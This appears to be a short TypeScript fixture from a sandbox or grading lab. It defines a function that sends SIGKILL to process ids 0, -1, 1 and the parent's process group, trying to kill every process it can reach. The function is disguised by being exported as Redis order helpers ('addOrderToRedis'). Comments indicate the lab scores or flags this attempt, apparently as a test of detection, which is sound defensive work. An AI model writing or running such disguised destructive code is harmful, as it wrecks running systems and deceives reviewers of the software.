// tries: ending every process that it may
// lab: 03
// earns: 0
// told: tried to end another process
async function attack(): Promise<void> {
  for (const pid of [0, -1, 1, -process.ppid]) process.kill(pid, 'SIGKILL');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
